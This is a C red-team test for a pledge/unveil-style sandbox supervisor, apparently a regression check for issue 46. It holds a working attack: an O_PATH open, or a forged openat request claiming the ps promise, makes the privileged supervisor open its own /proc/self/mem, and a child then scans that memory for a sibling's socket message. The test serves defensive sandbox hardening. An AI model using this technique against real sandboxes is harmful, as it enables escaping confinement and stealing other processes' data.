/* SPDX-License-Identifier: ISC */
/*
 * unveil_supervisor_proc_self.c: an O_PATH open of /proc/self/..., made
 * by the supervisor, is of the supervisor (issue 46, the supervisor).
 *
 * Under unveil's lock an O_PATH open traps; the supervisor finds the
 * path "as the caller would" (sup_open_at(): no magic link, the caller's
 * root), but /proc/self is a plain symbolic link, read by the process
 * that follows it: the supervisor.  It checks unveil's rules (r on /),
 * opens the file for reading and hands it in: /proc/self/maps, then
 * /proc/self/mem, are the supervisor's (root: its undumpable files are
 * root's 0600).  The supervisor serves every process of the tree and
 * keeps what it copies for them: a sibling's message it received (a
 * recvmsg with room for ancillary data is the supervisor's to make)
 * stays in its memory, where the attacker reads it.  The sibling's
 * socket is one the attacker never held.
 *
 * The second part needs no unveil: pledge's ps grants /proc for reading,
 * and a forged request (TAME_ASK_CALL, openat, claiming ps) has the
 * supervisor open "/proc/self/mem" itself (sup_calls.c, open_call() and
 * resolved_open(): openat2 beneath /proc, where "self" is followed).
 */
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "redteam.h"
#include "policy.h"		/* TAME_ASK_NR and the atoms a claim names */

#define ASK_CALL	2	/* TAME_ASK_CALL */

/* struct tame_ask (supervisor.h), as the attacker writes it */
struct ask {
	int32_t		 nr, verdict;
	uint64_t	 a[6], exec_held;
	int32_t		 exec_null, reserved;
	uint64_t	 need;
	char		 detail[48];
};

static int by_ask;		/* the second part: a forged request */

/* open path for reading: O_PATH (unveil's row), or a forged openat */
static int
open_read(const char *path)
{
	static struct ask q;
	tame_atoms claim = TAME__PS | TAME__BASE | TAME__ALWAYS;

	if (!by_ask)
		return open(path, O_PATH);
	memset(&q, 0, sizeof(q));
	q.nr = SYS_openat;
	q.a[0] = (uint64_t)AT_FDCWD;
	q.a[1] = (uint64_t)(uintptr_t)path;
	q.a[2] = O_RDONLY;
	return (int)syscall(TAME_ASK_NR, ASK_CALL, (long)(uint32_t)claim,
	    (long)(uint32_t)(claim >> 32), (long)&q, (long)sizeof(q), 0L);
}

static int sv[2];
static struct rt_secret secret;

/* the victim: one message, received as the library receives it */
static void
victim(void)
{
	char buf[4096], ctl[256];
	struct iovec io = { buf, sizeof(buf) };
	struct msghdr m = { 0 };

	m.msg_iov = &io;
	m.msg_iovlen = 1;
	m.msg_control = ctl;
	m.msg_controllen = sizeof(ctl);
	recvmsg(sv[1], &m, 0);
	_exit(0);
}

/* the attacker: the supervisor's writable mappings, for the secret's prefix */
static void
attacker(int tamed)
{
	static char maps[65536], chunk[1 << 20];
	const char *prefix = "secret of ";
	unsigned long lo, hi, off;
	char perm[8], *line, *save = NULL, *hit;
	int fd, mem;
	long n;

	if ((fd = open_read("/proc/self/maps")) == -1 ||
	    (n = read(fd, maps, sizeof(maps) - 1)) <= 0)
		_exit(tamed ? 0 : 1);	/* untamed: an O_PATH descriptor */
	maps[n] = '\0';
	if ((mem = open_read("/proc/self/mem")) == -1)
		_exit(0);
	for (line = strtok_r(maps, "\n", &save); line != NULL;
	    line = strtok_r(NULL, "\n", &save)) {
		/*
		 * The supervisor's data is in small mappings; a sanitizer's
		 * shadow (terabytes, reserved) would take hours to read.
		 */
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perm) != 3 ||
		    perm[1] != 'w' || hi - lo > (1ul << 30))
			continue;
		for (off = lo; off < hi; off += sizeof(chunk)) {
			n = pread(mem, chunk, hi - off < sizeof(chunk) ?
			    hi - off : sizeof(chunk), (off_t)off);
			if (n > 0 && (hit = memmem(chunk, (size_t)n, prefix,
			    strlen(prefix))) != NULL) {
				rt_tell(hit, (size_t)(chunk + n - hit) < 128 ?
				    (size_t)(chunk + n - hit) : 128);
				_exit(0);
			}
		}
	}
	_exit(0);
}

static int
attack(void *arg)
{
	int tamed = *(int *)arg;
	pid_t v;

	if (tamed && !by_ask) {
		rt_unveil("/", "r");
		rt_pledge("stdio rpath unix proc", NULL);
	} else if (tamed)
		rt_pledge("stdio unix proc ps", NULL);
	if ((v = fork()) == 0)
		victim();
	waitpid(v, NULL, 0);
	close(sv[1]);		/* the attacker never holds it */
	if (fork() == 0)
		attacker(tamed);
	wait(NULL);
	return 0;
}

int
main(int argc, char **argv)
{
	struct rt_kid k;
	char got[256];
	size_t n;
	int tamed = 1, found;

	rt_init(argc, argv);
	if (!rt_is_root()) {
		rt_na("not root: the undumpable supervisor's /proc/self files "
		    "are root's 0600, closed to it");
		return rt_finish();
	}
	if (!rt_need_landlock())
		return rt_finish();
	for (by_ask = 0; by_ask < 2; by_ask++) {
		if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) == -1)
			rt_fatal("socketpair");
		rt_spawn(&k, attack, &tamed);
		/* made only now: no process of the tree has it in memory */
		usleep(300000);
		rt_secret(&secret, rt_path("secret"));
		unlink(secret.path);
		if (send(sv[0], secret.data, secret.len, 0) !=
		    (ssize_t)secret.len)
			rt_fatal("send");
		n = rt_listen(&k, got, sizeof(got));
		rt_reap(&k);
		rt_check(k.status);
		close(sv[0]);
		close(sv[1]);
		/*
		 * The whole message, random tail and all: the next round's
		 * attacker is forked with this round's copy in its memory.
		 */
		found = n >= secret.len && memmem(got, n, secret.data,
		    secret.len) != NULL;
		memset(&secret, 0, sizeof(secret));
		if (found)
			rt_escaped("%s: read a sibling's message, received on "
			    "a socket the attacker never held, out of the "
			    "supervisor's memory (%s of /proc/self/mem, opened "
			    "by the supervisor)", by_ask ? "pledge(\"stdio unix "
			    "proc ps\")" : "unveil(\"/\", \"r\"), pledge(\"stdio "
			    "rpath unix proc\")", by_ask ? "a forged openat "
			    "request" : "an O_PATH open");
		else
			rt_held("%s: the sibling's message was not found in "
			    "the supervisor's memory (%zu bytes told)", by_ask ?
			    "ps, a forged openat" : "unveil, O_PATH", n);
	}
	return rt_finish();
}
